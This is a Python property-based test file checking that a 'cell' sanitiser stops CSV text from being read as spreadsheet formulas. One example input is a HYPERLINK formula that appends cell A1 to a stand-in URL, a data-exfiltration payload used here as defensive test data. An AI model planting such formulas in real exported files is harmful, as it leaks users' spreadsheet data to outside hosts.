"""No text of ours is a formula to a spreadsheet, and none is lost by that."""

import csv
import io

from hypothesis import example, given
from hypothesis import strategies as st

from geo_alerts.acts.spreadsheets import cell

TEXTS = st.text("=+-@\t\r '\"a1,;\n", max_size=6) | st.text(max_size=20)


@given(TEXTS)
@example('=HYPERLINK("https://example.org/?"&A1)')
@example("-1+1")
@example(" @SUM(1)")
@example("a\r=1+1")
def test_no_cell_begins_as_a_formula_and_each_is_told_apart(text):
    line = io.StringIO(newline="")
    csv.writer(line, lineterminator="\n").writerow([cell(text), "end"])
    ((shown, _end),) = csv.reader(io.StringIO(line.getvalue(), newline=""))
    assert shown.lstrip(" ")[:1] not in set("=+-@\t\r")
    assert shown.removeprefix("'") == text.replace("\r", " ").removeprefix("'")


@given(TEXTS.filter(lambda text: text.strip(" ")[:1].isalnum()))
def test_what_begins_with_a_letter_or_a_figure_is_left_as_it_is(text):
    assert cell(text) == text.replace("\r", " ")
